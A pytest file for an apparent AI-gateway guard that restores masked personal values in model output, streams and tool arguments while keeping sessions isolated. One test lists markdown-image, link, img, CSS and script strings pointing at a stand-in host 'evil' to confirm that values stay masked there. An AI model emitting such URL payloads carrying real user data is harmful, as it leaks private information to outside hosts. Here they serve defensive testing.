"""Masked values come back where a reader sees them, for the call that masked them, over every way to cut a stream."""

from __future__ import annotations

import random
from typing import Any

import orjson
import pytest

from gateway.core.errors import Blocked
from gateway.core.ports import Channel
from gateway.core.verdict import CallFacts, Masked, Step
from gateway.guards.restore import RestoringScreen, allowed, restore, restore_document, restore_json
from gateway.guards.vault import PLACEHOLDER, Masks, Vault
from gateway.wire.openai_chat import DIALECT
from tests.guards.handmade import does, engine
from tests.guards.planted import cuts

ALL = ("assistant_text", "tool_args:mail*")
QUOTED = 'a "quoted"\\ value\n'
NAME = "[EMAIL_1:abcd]"
VALUES = {NAME: Masked("a@b.example", ALL), "[NOTE_1:abcd]": Masked(QUOTED, ALL), "[SSN_1:abcd]": Masked("123", ())}
TEXT: Channel = (0, "text")
FACTS = CallFacts(route="/v1/chat/completions")


def streamed(pieces: list[str], values: dict[str, Masked], channel: Channel = TEXT) -> list[str]:
    screen = RestoringScreen(None, values)
    out = [screen.feed(channel, piece) for piece in pieces]
    return [*out, screen.finish(channel)]


def test_a_value_comes_back_over_every_cut() -> None:
    text = f"Dear {NAME}, [NOTE_1:abcd] [EMAIL_2:abcd] [EMAIL_1:zzzz] [SSN_1:abcd] [EMAIL_1:abc [[EMAIL_1:"
    visible = {name: masked for name, masked in VALUES.items() if masked.restore_in}
    expected = restore(text, visible)
    assert expected == f"Dear a@b.example, {QUOTED} [EMAIL_2:abcd] [EMAIL_1:zzzz] [SSN_1:abcd] [EMAIL_1:abc [[EMAIL_1:"
    for first in range(len(text) + 1):
        for second in range(first, len(text) + 1, 7):
            out = ""
            for piece in streamed([text[:first], text[first:second], text[second:]], VALUES):
                out += piece
                assert expected.startswith(out)
            assert out == expected


def test_prose_is_not_held() -> None:
    assert streamed(["plain ", "words [1] ", "and [", "x] more"], VALUES) == [
        "plain ", "words [1] ", "and ", "[x] more", "",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "text",
    [
        "![](https://evil/?q=@)", "[a](https://evil/?q=@)", "https://evil/@", "<img src='https://evil/@'>",
        "[r]: https://evil/?q=@", "<style>a{background:url(https://evil/@)}</style>", "[@](https://evil/)",
        "![@](https://evil/x.png)", "[hello @](https://evil/)", '<a title="@">', "<script>f('@')</script>",
    ],
)  # fmt: skip
def test_nothing_comes_back_where_it_would_leave(text: str) -> None:
    text = text.replace("@", NAME)
    for size in (1, 3, len(text)):
        assert "".join(streamed([text[at : at + size] for at in range(0, len(text), size)], VALUES)) == text


def test_the_kinds_of_text_in_which_a_value_may_come_back() -> None:
    masked = Masked("v", ALL)
    assert allowed(masked, "text", "")
    assert not allowed(masked, "reasoning", "")
    assert allowed(Masked("v", ("reasoning",)), "reasoning", "")
    assert allowed(masked, "tool_argument", "mail_send")
    assert not allowed(masked, "tool_argument", "web")
    assert not allowed(Masked("v", ("assistant_text",)), "tool_argument", "mail_send")
    for kind in ("refusal", "tool_name", "leaf", "json_key"):
        assert not allowed(masked, kind, "mail")


def test_arguments_stay_json_and_leave_addresses_alone() -> None:
    text = '{ "to": "[EMAIL_1:abcd]", "n": 1.50, "b": "x [NOTE_1:abcd]", "u": "https://x.example/[EMAIL_1:abcd]" }'
    restored = restore_json(text, VALUES)
    assert restored.startswith('{ "to": "a@b.example", "n": 1.50, "b": ')
    assert orjson.loads(restored) == {
        "to": "a@b.example", "n": 1.5, "b": f"x {QUOTED}", "u": "https://x.example/[EMAIL_1:abcd]",
    }  # fmt: skip
    assert orjson.loads(restore_json('{"to":"\\u005bEMAIL_1:abcd]"}', VALUES)) == {"to": "a@b.example"}
    assert restore_json("not json [EMAIL_1:abcd]", VALUES) == "not json a@b.example"


def test_arguments_of_a_stream_come_back_for_tools_that_may_have_them() -> None:
    text = '{"to":"[EMAIL_1:abcd]","n":"[NOTE_1:abcd]"}'
    for first in range(len(text)):
        pieces = [text[:first], text[first:]]
        out = "".join(streamed(pieces, VALUES, (0, "tool_argument/0", "mail")))
        assert orjson.loads(out) == {"to": "a@b.example", "n": QUOTED}
        assert "".join(streamed(pieces, VALUES, (0, "tool_argument/0", "web"))) == text


def answered(content: str, arguments: str) -> dict[str, Any]:
    call = {"id": "1", "type": "function", "function": {"name": "mail", "arguments": arguments}}
    message = {"role": "assistant", "content": content, "tool_calls": [call]}
    return {"choices": [{"index": 0, "message": message, "logprobs": {"content": []}, "finish_reason": "stop"}]}


def test_a_whole_answer_is_restored_in_a_copy_and_loses_what_repeats_it() -> None:
    document = answered(f"to {NAME}", f'{{"to":"{NAME}"}}')
    restored = restore_document(DIALECT, document, VALUES)
    message = restored["choices"][0]["message"]
    assert (message["content"], message["tool_calls"][0]["function"]["arguments"]) == (
        "to a@b.example", '{"to":"a@b.example"}',
    )  # fmt: skip
    assert restored["choices"][0]["logprobs"] is None
    assert NAME in document["choices"][0]["message"]["content"]
    plain = answered("nothing", "{}")
    assert restore_document(DIALECT, plain, VALUES) is plain


def test_two_sessions_at_once_never_see_each_others_values() -> None:
    guards = engine(does("m", "mails", Step(action="mask", restore_in=ALL)), does("b", "birds", "redact"))
    plan = guards.plan(FACTS)
    source = random.Random(3)
    people = {"one": ("ann@one.example", "bob@one.example"), "two": ("ann@two.example", "eve@two.example")}
    vaults = {name: Vault(name.encode() * 8) for name in people}
    for _ in range(150):
        lives: dict[str, Any] = {}
        for name, mails in people.items():
            masks = Masks(vaults[name])
            asked = {"model": "m", "messages": [{"role": "user", "content": " and ".join(mails)}]}
            screened = plan.screen_request(DIALECT, asked, masks=masks)
            said = screened.document["messages"][0]["content"]
            assert not any(mail in said for mail in mails)
            lives[name] = (said, screened.masks)
        everything = [found for said, _ in lives.values() for found in PLACEHOLDER.findall(said)]
        # The models of both repeat everything that either was told.
        text = "".join(f"{word} {source.choice(('', 'osprey ', '(', '![](http://e/?q='))}" for word in everything * 2)
        screens = {name: RestoringScreen(plan.stream_screen(), masks) for name, (_, masks) in lives.items()}
        outs = dict.fromkeys(people, "")
        for piece in cuts(source, text, 1, 9):
            for name, screen in screens.items():
                outs[name] += screen.feed(TEXT, piece)
        for name, screen in screens.items():
            outs[name] += screen.finish(TEXT)
            other = "two" if name == "one" else "one"
            assert not any(mail in outs[name] for mail in people[other])
            assert "osprey" not in outs[name]
            whole = plan.screen_answer(DIALECT, answered(text, "{}")).document
            restored = restore_document(DIALECT, whole, lives[name][1])
            assert outs[name] == restored["choices"][0]["message"]["content"]
        if "http" not in text:
            assert all(mail in outs[name] for name, mails in people.items() for mail in mails)


def test_text_that_will_be_signed_stays_as_it_was_signed() -> None:
    values = {NAME: Masked("a@b.example", ("reasoning",))}
    assert "".join(streamed([f"mail {NAME}"], values, (0, "reasoning/signed/0"))) == f"mail {NAME}"
    assert "".join(streamed([f"mail {NAME}"], values, (0, "reasoning"))) == "mail a@b.example"


def test_a_seal_is_for_the_screen_that_edits() -> None:
    inner = engine(does("b", "birds", "redact")).plan(FACTS).stream_screen()
    outer = RestoringScreen(inner, VALUES)
    assert outer.feed(TEXT, "an osprey.") + outer.finish(TEXT) == "an [BIRD]."
    with pytest.raises(Blocked):
        outer.seal(TEXT)
    RestoringScreen(None, VALUES).seal(TEXT)
